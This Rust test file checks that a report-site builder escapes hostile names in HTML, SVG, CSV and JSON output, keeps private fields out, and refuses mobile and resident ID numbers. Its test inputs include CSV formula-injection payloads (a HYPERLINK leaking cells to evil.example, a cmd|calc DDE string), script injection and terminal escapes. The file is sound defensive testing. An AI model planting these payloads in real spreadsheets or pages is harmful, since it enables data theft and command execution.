//! Nothing leaked: hostile names are escaped in every kind of output file
//! (HTML, SVG, CSV against formula injection, JSON), private fields reach
//! no output file nor the archive, and personal numbers (resident IDs,
//! mobile numbers) stop the build unless the site allows them.

mod common;

use std::path::Path;

use common::{build, nianbao, read, site_copy, tree};

/// 11010519491231002X is the example number of GB 11643-1999.
const RESIDENT_ID: &str = "11010519491231002X";
const MOBILE: &str = "13812345678";
const PRIVATE: &str = "内部联系人甲";

fn replace_all(path: &Path, from: &str, to: &str) {
    let text = read(path);
    assert!(text.contains(from), "{} lacks {from:?}", path.display());
    std::fs::write(path, text.replace(from, to)).unwrap();
}

/// Splits CSV text into rows of cells (RFC 4180 quoting).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(String::new()),
            ('\r', false) => {}
            ('\n', false) => rows.push(vec![String::new()]),
            (c, _) => row.last_mut().unwrap().push(c),
        }
    }
    rows.retain(|r| r.iter().any(|c| !c.is_empty()));
    rows
}

#[test]
fn hostile_names_are_escaped_in_every_kind_of_output_file() {
    let site = site_copy("minimal");
    let d = site.path();
    let orgs = d.join("content/data/2016/organizations.yaml");
    // Townships and industries reach HTML pages, chart SVGs and CSVs.
    replace_all(
        &orgs,
        "township: 甲街道",
        "township: '=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")'",
    );
    replace_all(
        &orgs,
        "township: 乙镇",
        "township: \"]]></text><script>alert(7)</script><text>\"",
    );
    replace_all(&orgs, "industry: 电子信息", "industry: '@SUM(1+1)*cmd|x'");
    replace_all(
        &orgs,
        "industry: 新材料",
        "industry: \"-2+3,\\\"引号\\\"\\n换行\"",
    );
    common::edit(
        &orgs,
        "name: 示例企业 0001",
        "name: \"+cmd|' /C calc'!A0 <b>粗</b> & 'q'\"",
    );
    build(d);
    let out = tree(&d.join("output"));
    let mut csv_hostile = 0;
    let mut svgs = 0;
    for (path, bytes) in &out {
        let Ok(text) = std::str::from_utf8(bytes) else {
            continue;
        };
        let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
        match ext {
            "html" | "svg" => {
                // <title> holds text only: the minifier may leave `<` bare
                // there, and browsers show it as text (build_site.rs checks
                // that it cannot close the element).
                let text = match (text.find("<title>"), text.find("</title>")) {
                    (Some(a), Some(b)) if a < b && ext == "html" => {
                        format!("{}{}", &text[..a], &text[b..])
                    }
                    _ => text.to_string(),
                };
                // The site's own scripts are loaded by `src`; user text
                // never opens one.
                assert!(
                    !text.contains("<script>alert") && !text.contains("alert(7)</script>"),
                    "unescaped <script> in {}",
                    path.display()
                );
                assert!(
                    !text.contains("<b>粗"),
                    "unescaped <b> in {}",
                    path.display()
                );
                assert!(
                    !text.contains("]]></text>"),
                    "unescaped ]]> in {}",
                    path.display()
                );
            }
            "csv" => {
                for cell in csv_cells(text).into_iter().flatten() {
                    let numeric = cell.trim_end_matches('%').parse::<f64>().is_ok();
                    assert!(
                        numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "formula cell {cell:?} in {}",
                        path.display()
                    );
                    csv_hostile += usize::from(
                        cell.starts_with("'=HYPERLINK")
                            || cell.starts_with("'@SUM")
                            || cell.starts_with("'-2+3"),
                    );
                }
            }
            "json" => {
                serde_json::from_str::<serde_json::Value>(text)
                    .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
            }
            // A data script (the search index): `window.NAME = <JSON>;`,
            // where no `<` may close the tag that loads it.
            "js" if text.starts_with("window.") => {
                let json = text
                    .split_once('=')
                    .unwrap()
                    .1
                    .trim_end()
                    .trim_end_matches(';');
                serde_json::from_str::<serde_json::Value>(json)
                    .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
                assert!(!json.contains('<'), "raw `<` in {}", path.display());
            }
            _ => {}
        }
        if ext == "svg" {
            svgs += 1;
            // A standalone SVG must stay well-formed XML.
            resvg::usvg::Tree::from_str(text, &resvg::usvg::Options::default())
                .unwrap_or_else(|e| panic!("{} is not valid SVG: {e}", path.display()));
        }
    }
    assert!(svgs >= 3);
    assert!(
        csv_hostile >= 3,
        "the hostile names should be in the CSVs, defused ({csv_hostile})"
    );
    // The CSV keeps the text itself, quoted where needed.
    let csv = read(&d.join("output/charts/coverage-by-industry.csv"));
    assert!(csv.contains("\"'-2+3,\"\"引号\"\"\n换行\""), "{csv}");
}

#[test]
fn private_fields_reach_no_output_file_nor_the_archive() {
    let site = site_copy("minimal");
    let d = site.path();
    // A private field of every shape, with numbers that would stop the
    // build if they were published.
    common::edit(
        &d.join("content/data/2016/organizations.yaml"),
        "      contact: 内部联系人甲",
        &format!(
            "      contact: 内部联系人甲\n      phone: {MOBILE}\n      id_card: {RESIDENT_ID}\n      notes:\n        - 内部联系人甲 再记\n        - {{ nested: 内部联系人甲 }}"
        ),
    );
    build(d);
    let archive = nianbao(d, &["archive", "--year", "2016", "-c", "content"]);
    assert!(
        archive.status.success(),
        "{}",
        String::from_utf8_lossy(&archive.stderr)
    );
    let mut files = 0;
    for root in ["output", "content/archive/2016"] {
        for (path, bytes) in tree(&d.join(root)) {
            files += 1;
            let text = String::from_utf8_lossy(&bytes);
            for secret in [PRIVATE, MOBILE, RESIDENT_ID, "id_card"] {
                assert!(
                    !text.contains(secret),
                    "{secret} leaked into {root}/{}",
                    path.display()
                );
            }
        }
    }
    assert!(files > 20);
    // The archived source still holds the rest of the record.
    let source = read(&d.join("content/archive/2016/data/source/data/2016/organizations.yaml"));
    assert!(source.contains("id: ent-0003") && !source.contains("private"));
}

#[test]
fn personal_numbers_stop_the_build_unless_the_site_allows_them() {
    let site = site_copy("minimal");
    let d = site.path();
    build(d);
    let before = tree(&d.join("output"));
    common::edit(
        &d.join("content/data/2016/organizations.yaml"),
        "name: 示例企业 0001",
        &format!("name: 示例企业 0001 联系电话 {MOBILE}"),
    );
    std::fs::write(
        d.join("content/pages/contact.md"),
        format!("---\ntitle: 联系\n---\n\n负责人身份证 {RESIDENT_ID}。\n"),
    )
    .unwrap();
    for args in [
        &["build", "-c", "content", "-o", "output"][..],
        &["check", "-c", "content"],
        &["archive", "--year", "2016", "-c", "content"],
    ] {
        let out = nianbao(d, args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        // Each number once, at the source line it comes from, naming the
        // output file that would publish it.
        assert!(
            err.contains("content/data/2016/organizations.yaml:3:26: error: the output would publish what looks like a mobile phone number (手机号) `138****5678`: it would appear in <output>/")
                && err.contains("(and"),
            "{err}"
        );
        assert!(
            err.contains("content/pages/contact.md:5:8: error: the output would publish what looks like a resident ID number (身份证号) `1101************2X`: it would appear in <output>/pages/contact.html"),
            "{err}"
        );
        assert_eq!(
            err.matches("error: the output would publish").count(),
            2,
            "{err}"
        );
        assert!(err.contains("allow_personal_numbers: true"), "{err}");
        assert!(!err.contains(MOBILE) && !err.contains(RESIDENT_ID), "{err}");
    }
    assert_eq!(
        tree(&d.join("output")),
        before,
        "a refused build changed the site"
    );
    assert!(!d.join("content/archive").exists());
    // Allowed explicitly: published as written.
    let site_yaml = d.join("content/site.yaml");
    std::fs::write(
        &site_yaml,
        read(&site_yaml) + "allow_personal_numbers: true\n",
    )
    .unwrap();
    build(d);
    assert!(read(&d.join("output/pages/contact.html")).contains(RESIDENT_ID));
    // The flag takes a boolean.
    std::fs::write(
        &site_yaml,
        read(&site_yaml).replace("allow_personal_numbers: true", "allow_personal_numbers: 是"),
    )
    .unwrap();
    let out = nianbao(d, &["check", "-c", "content"]);
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("`allow_personal_numbers` must be `true` or `false`"));
}

#[test]
fn a_number_in_a_register_comment_stops_the_archive_but_not_the_build() {
    let site = site_copy("minimal");
    let d = site.path();
    let orgs = d.join("content/data/2016/organizations.yaml");
    std::fs::write(&orgs, format!("# 联系人 {MOBILE}\n{}", read(&orgs))).unwrap();
    // Comments are not rendered: the site is clean.
    build(d);
    // The archive keeps the source, comments included: refused.
    let out = nianbao(d, &["archive", "--year", "2016", "-c", "content"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("content/data/2016/organizations.yaml: error: the output would publish what looks like a mobile phone number (手机号) `138****5678` at line 1, column 7"),
        "{err}"
    );
    assert!(!err.contains(MOBILE), "{err}");
    assert!(!d.join("content/archive/2016").exists());
}

#[test]
fn control_characters_are_refused_and_never_reach_the_terminal_raw() {
    let site = site_copy("minimal");
    let d = site.path();
    let orgs = d.join("content/data/2016/organizations.yaml");
    // Escaped in YAML (a NUL, which XML and SVG cannot hold; a terminal
    // escape), and raw bytes on a line that a message quotes.
    common::edit(&orgs, "name: 示例企业 0001", "name: \"a\\0b\"");
    common::edit(&orgs, "township: 甲街道", "township: \"\\e[2J清屏\"");
    common::edit(
        &d.join("content/data/2016/branches.yaml"),
        "level: work_committee",
        "level: \"\u{1b}]0;标题\u{7}work_committee\"",
    );
    let out = nianbao(d, &["build", "-c", "content", "-o", "output"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("`name` holds the control character U+0000"),
        "{err}"
    );
    assert!(
        err.contains("`township` holds the control character U+001B"),
        "{err}"
    );
    assert!(err.contains("\\u{1b}]0;标题\\u{7}work_committee"), "{err}");
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
    assert!(!d.join("output").exists());
}

/// Every spelling a careless or a hiding hand gives a number: zero-width
/// characters, Unicode spaces, hyphens, dots, HTML references; each is
/// named at its source file, line and column.
#[test]
fn personal_numbers_are_found_however_written_and_named_at_their_source() {
    let site = site_copy("minimal");
    let d = site.path();
    let spellings = [
        "138\u{200B}1234\u{200B}5678",
        "1\u{2060}3\u{00AD}8\u{FEFF}12345678",
        "138\u{00A0}1234\u{00A0}5678",
        "138\u{3000}1234\u{3000}5678",
        "138.1234.5678",
        "138\u{2010}1234\u{2010}5678",
        "+86 138-1234-5678",
        "110105\u{2009}19491231\u{2009}002X",
        "1101\u{200C}05-19491231-0038",
    ];
    let mut page = String::from("---\ntitle: 联系\n---\n\n");
    for (i, s) in spellings.iter().enumerate() {
        // Each a different number, so that each is reported on its own.
        let s = s.replace("5678", &format!("567{i}"));
        page.push_str(&format!("第{i}项：{s}\n\n"));
    }
    std::fs::write(d.join("content/pages/contact.md"), &page).unwrap();
    // In a register, through YAML escapes: named at the register's line.
    common::edit(
        &d.join("content/data/2016/organizations.yaml"),
        "name: 示例企业 0002",
        "name: \"示例企业 0002 电话 139\\u200B1234\\u200B0000\"",
    );
    let out = nianbao(d, &["check", "-c", "content"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    for (i, spelling) in spellings.iter().enumerate() {
        let line = 5 + 2 * i;
        assert!(
            err.contains(&format!("content/pages/contact.md:{line}:"))
                && err.contains("error: the output would publish what looks like"),
            "spelling {i} ({spelling:?}) not found at line {line}:\n{err}"
        );
    }
    assert!(
        err.contains("content/data/2016/organizations.yaml:13:25: error: the output would publish what looks like a mobile phone number (手机号) `139****0000`"),
        "{err}"
    );
    assert!(!err.contains("138\u{200B}1234"), "{err}");
}

/// A number field holding a mobile or ID number is refused where it is
/// written, and so never reaches the site nor the spreadsheet export.
#[test]
fn personal_numbers_in_number_fields_are_refused_at_their_line() {
    let site = site_copy("minimal");
    let d = site.path();
    let orgs = d.join("content/data/2016/organizations.yaml");
    common::edit(&orgs, "employees: 120", &format!("employees: {MOBILE}"));
    common::edit(
        &orgs,
        "party_members: 2",
        "party_members: 110105194912310011",
    );
    common::edit(
        &orgs,
        "party_members: 1\n",
        "party_members: 1.3912345678e10\n",
    );
    for args in [
        &["check", "-c", "content"][..],
        &[
            "export",
            "--year",
            "2016",
            "-c",
            "content",
            "-o",
            "registers.xlsx",
        ],
    ] {
        let out = nianbao(d, args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(
            err.contains("organizations.yaml:8:16: error: `employees` holds what looks like a mobile phone number (手机号) `138****5678`, not a count"),
            "{err}"
        );
        assert!(
            err.contains("`party_members` holds what looks like a resident ID number"),
            "{err}"
        );
        assert!(
            err.contains("`party_members` holds what looks like a mobile phone number (手机号) `139****5678`"),
            "{err}"
        );
        assert!(!err.contains(MOBILE), "{err}");
    }
    assert!(!d.join("registers.xlsx").exists());
}
